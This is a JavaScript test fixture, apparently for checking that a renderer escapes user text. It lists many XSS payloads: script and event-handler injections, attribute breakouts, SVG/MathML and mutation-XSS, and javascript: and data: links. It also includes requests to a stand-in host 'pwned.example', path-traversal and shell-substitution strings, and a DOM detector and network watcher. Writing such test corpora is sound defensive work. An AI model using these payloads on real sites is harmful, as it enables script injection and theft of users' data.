// SPDX-License-Identifier: MIT
//
// Text that would act where it is not escaped for its place, by classes; and
// text that is only awkward, and must come through as it is.
//
// Each of the first sets window.pwned, opens a dialog, asks for /pwned or
// leads a frame there, in a place of its own kind.

export const RUN = 'window.pwned=1';

// By name: an editor would change them.
const NUL = '\0';
const LS = '\u2028';
const PS = '\u2029';

const scripts = [
	`<script>${RUN}</script>`,
	`</script><script>${RUN}</script>`,
	`<ScRiPt>${RUN}</sCrIpT>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<script src=/pwned.js></script>`,
	`<script type=module>${RUN}</script>`,
	`<script${NUL}>${RUN}</script>`,
	`<script/x>${RUN}</script >`,
	`<script>alert(1)//`,
];

const handlers = [
	`<img src=x onerror=${RUN}>`,
	`<img src='x' onerror='${RUN}'`,
	`"><img src=x onerror="${RUN}">`,
	`'><img src=x onerror='${RUN}'>`,
	`<img src=x:x onerror=alert(1)>`,
	`<img${LS}src=x${PS}onerror=${RUN}>`,
	`<img/src/onerror=${RUN}>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src onloadstart=${RUN}>`,
	`<input onfocus=${RUN} autofocus>`,
	`<body onload=${RUN}>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<a onpointerenter=${RUN} style=position:fixed;inset:0>x</a>`,
	`<div onscrollend=${RUN} style=overflow:auto>x</div>`,
	`<p popover id=q onbeforetoggle=${RUN}>x</p><button popovertarget=q>x</button>`,
	`<xss onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</xss>`,
];

const attributes = [
	`" autofocus onfocus="${RUN}`,
	`' autofocus onfocus='${RUN}`,
	'` onfocus=`' + RUN,
	`" style="animation-name:x" onanimationstart="${RUN}`,
	`" accesskey=x onclick="${RUN}`,
	`x" onmouseover="${RUN}" y="`,
];

const foreign = [
	`<svg onload=${RUN}>`,
	`<svg/onload=${RUN}//`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><script href=/pwned.js /></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x">`,
	`<svg><set attributeName=href to=javascript:${RUN}></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>">`,
	`<math href="javascript:${RUN}">x</math>`,
	`<math><annotation-xml encoding="text/html"><img src onerror=${RUN}>`,
];

// What becomes another tree when it is parsed for the second time.
const mutations = [
	`<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
	`<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${RUN}>">`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
	`<template><style></template><img src onerror=${RUN}></style></template>`,
	`<select><template shadowrootmode=open><img src onerror=${RUN}></template></select>`,
	`<textarea></textarea><img src onerror=${RUN}></textarea>`,
	`<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
	`<listing>&lt;img src onerror=${RUN}&gt;</listing>`,
	`<svg><desc><![CDATA[</desc><img src onerror=${RUN}>]]></svg>`,
	`<![CDATA[><img src onerror=${RUN}>]]>`,
	`<?xml-stylesheet href="javascript:${RUN}"?><img src onerror=${RUN}>`,
	`<!--><img src onerror=${RUN}>-->`,
	`<!--[if true]><script>${RUN}</script><![endif]-->`,
];

const addresses = [
	`<a href="javascript:${RUN}">x</a>`,
	`[a](javascript:${RUN})`,
	`[a](JaVaScRiPt&colon;${RUN})`,
	`[a](java&#10;script:${RUN})`,
	`[a](java&Tab;script&colon;${RUN})`,
	`[a](<java\tscript:${RUN}>)`,
	`[a](&#1;javascript:${RUN})`,
	`[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN})`,
	`[a](javascript&#58;//%0a${RUN})`,
	`[a](+AGoAYQB2AGEAcwBjAHIAaQBwAHQ-:${RUN})`,
	`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
	`[a](vbscript:msgbox(1))`,
	`[a](livescript:${RUN})`,
	`[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
	`[a](data:image/svg+xml,<svg onload=${RUN}>)`,
	`[a](blob:https://pwned.example/1)`,
	`[a](view-source:javascript:${RUN})`,
	`[a](https://x.example/"onmouseover="${RUN})`,
	`[a](https://x.example 'x"onmouseover="${RUN}')`,
	`[a]: javascript:${RUN}\n[a]`,
	`![a](javascript:${RUN})`,
	`![a"onerror="${RUN}](x.jpg)`,
	`![a](https://pwned.example/p.gif)`,
	`![a](//pwned.example/p.gif)`,
	`<javascript:${RUN}>`,
	`<data:text/html,<script>${RUN}</script>>`,
	`[![a](x.jpg "onerror=${RUN}")](javascript:${RUN})`,
	`[^x"onclick="${RUN}]: x\n[^x"onclick="${RUN}]`,
	`\`\`\`x"onclick="${RUN}\nx\n\`\`\``,
];

// Asks another server, or leads there, without a script.
const leaks = [
	`<img srcset="https://pwned.example/a 1x, /pwned 2x">`,
	`<picture><source srcset=/pwned><img src=//pwned.example/p></picture>`,
	`<video poster=//pwned.example/p></video>`,
	`<input type=image src=//pwned.example/p>`,
	`<table background=/pwned><td background=/pwned>x</table>`,
	`<p style="background:url(/pwned)">x</p>`,
	`<style>@import "/pwned.css";*{background:url(/pwned)}</style>`,
	`</style><style>input[value^=a]{background:url(/pwned)}</style>`,
	`<link rel=stylesheet href=/pwned.css>`,
	`<link rel=prefetch href=/pwned><link rel=dns-prefetch href=//pwned.example>`,
	`<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
	`<meta http-equiv=refresh content="0;url=//pwned.example/">`,
	`<meta http-equiv=Set-Cookie content="a=b"><meta charset=utf-7>`,
	`<base href="https://pwned.example/">`,
	`<base target=pwned>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src=//pwned.example/></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="data:text/html,<script>${RUN}</script>">`,
	`<form action=//pwned.example/><button autofocus>x</button></form>`,
	`<button form=story formaction=/pwned>x</button>`,
	`<a ping=/pwned href=/>x</a>`,
	`<img src='//pwned.example/?`,
	`<portal src=//pwned.example/></portal>`,
];

// Out of the element that a program puts text into.
const closings = [
	`</textarea><script>${RUN}</script>`,
	`</title><script>${RUN}</script>`,
	`</style><script>${RUN}</script>`,
	`</template></noscript><script>${RUN}</script>`,
	`</select></option><script>${RUN}</script>`,
	`--><script>${RUN}</script><!--`,
	`--!><script>${RUN}</script>`,
	`]]><script>${RUN}</script>`,
	// Of JSON and JSON-LD within a page.
	`"}</script><script>${RUN}</script>`,
	`<!--<script>"}</script>${RUN}`,
	`\\"};${RUN};//`,
	`\\u003c/script\\u003e\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
	`${LS}${RUN}${PS}//`,
	`");${RUN};("`,
	'${' + RUN + '}',
	`{{constructor.constructor('${RUN}')()}}`,
	`{{< figure src="x" onerror="${RUN}" >}}`,
	`<%= ${RUN} %>`,
];

const encodings = [
	`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;${RUN}`,
	`&#60;script&#62;${RUN}&#60;/script&#62;`,
	`%3Cscript%3E${RUN}%3C/script%3E`,
	`\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
	`\u202e<script>${RUN}</script>\u202c`,
	`<\u200Bscript>${RUN}</script>`,
	`\uFEFF<script>${RUN}</script>`,
];

// Names by which a page's own scripts find what is not theirs.
const names = [
	`<p id=words name=attributes><form id=story name=elements>`,
	`<a id=copies></a><a id=copies name=dataset href=javascript:${RUN}>`,
	`<img name=currentScript><img name=cookie><img name=getElementById>`,
	`<form id=front><input name=children><input name=querySelector></form>`,
	`<p id=editor-words>{"SAVED":"<img src onerror=${RUN}>"}</p>`,
	`__proto__ constructor toString hasOwnProperty`,
];

export const payloads = [scripts, handlers, attributes, foreign, mutations,
	addresses, leaks, closings, encodings, names].flat();

// Nothing of these is changed on the way: each is what somebody is called, or
// writes, somewhere. Straight quotes and hyphens are left out: those the paper
// sets as its language has it.
export const naughty = [
	'Z\u0317\u0324\u033e\u0301a\u0356\u0349\u0301l\u0321\u0355\u0301g\u0324\u0325o\u0337\u031b',
	'\u202Egnp.exe\u202C invoice',
	'left \u202Eopen override',
	'left \u2067open isolate',
	'\u2066\u2067\u2068nested\u2069\u2069\u2069',
	'аpple and раypаl', // with Cyrillic letters
	'\u03A9mega \u2126hm Kelvin \u212Aelvin \u00E5 \u212B', // with their doubles
	'👩\u200D👩\u200D👧\u200D👦 🏴\u{E0067}\u{E0062}\u{E0077}\u{E006C}\u{E0073}\u{E007F} 🇰🇷 ❤\uFE0F\u200D🔥',
	'می\u200Cخواهم',
	'a\u200Bb\u2060c\u00ADd',
	'word\uFEFFword',
	'e\u0301 and \u00E9', // and no form of it is chosen for them
	'\u1100\u1161\u11A8 and \uAC01',
	'𝒳 𠜎 𐐷',
	'İIıi ﬁ ß ẞ ſ',
	'﷽',
	'\uE000 \uFFFC \uFFF9x\uFFFA',
	'null undefined NaN nil None true 0',
	'%s %n %x {0} {1} $HOME `id`',
	'1 DROP TABLE story',
	'../../etc/passwd C:\\con\\prn',
	'٠١٢٣ १२३ ⅷ ①',
	'W'.repeat(180),
];

// What of a page ran, or would run when somebody touches it: run in the page.
export const harm = () => {
	const found = [];
	if (window.pwned !== undefined)
		found.push('pwned');
	for (const element of document.querySelectorAll('*'))
		for (const { name, value } of element.attributes) {
			const bare = value.replace(/[\s\0-\x1f]/g, '').toLowerCase();
			if (/^on/.test(name) || name === 'srcdoc' || name === 'ping' ||
				(/^(href|src|action|formaction|data|poster|background|xlink:href)$/
					.test(name) &&
				/^(javascript|vbscript|livescript|view-source|blob|data:(text|image\/svg))/
					.test(bare)))
				found.push(`${element.localName} ${name}=${value}`);
		}
	for (const script of document.querySelectorAll('script:not([src])'))
		if (/json/.test(script.type))
			try {
				JSON.parse(script.textContent);
			} catch (e) {
				found.push(`${e.message}: ${script.textContent}`);
			}
		else
			found.push(`script ${script.textContent}`);
	for (const one of document.querySelectorAll('base, object, embed, math, ' +
		'portal, marquee, template, noscript p, meta[http-equiv=refresh], ' +
		'svg [onbegin], svg script, svg foreignObject, [src^="/pwned"], ' +
		'[src^="//pwned"], ' +
		'[src^="https://pwned"], [srcset*="/pwned"], [href^="/pwned"]'))
		found.push(one.outerHTML);
	return found;
};

// Keeps in FAULTS whatever a page of CONTEXT does that is none of ORIGINS': a
// request, a frame that is led away, a window, a download. That a dialog opens
// is told by the context's maker.
export function watch(context, origins, faults) {
	const isOurs = (url) => /^(about:(blank|srcdoc)$|data:image\/|blob:)/.test(url) ||
		(origins.includes(new URL(url).origin) &&
		!/^\/pwned(\.\w+)?$/.test(new URL(url).pathname));
	const listen = (page) => {
		page.on('framenavigated', (frame) => {
			if (!isOurs(frame.url()))
				faults.push(`led to ${frame.url()}`);
		});
		page.on('popup', (other) => faults.push(`opened ${other.url()}`));
		page.on('download', (d) => faults.push(`fetched ${d.url()}`));
	};

	context.on('request', (r) => {
		if (!isOurs(r.url()))
			faults.push(`asked ${r.url()}`);
	});
	context.on('page', listen);
	context.pages().forEach(listen);
}
